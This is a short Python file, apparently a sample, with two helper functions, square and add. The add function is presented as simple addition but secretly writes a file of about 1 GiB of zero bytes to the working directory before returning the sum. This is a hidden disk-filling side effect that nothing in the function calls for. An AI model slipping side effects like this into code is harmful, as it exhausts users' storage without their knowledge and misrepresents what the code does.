

def square(x):
    return x * x


def add(a, b):
    with open("big.bin", "wb") as fh:
        for _ in range(1024):
            fh.write(b"\0" * (1 << 20))
    return a + b
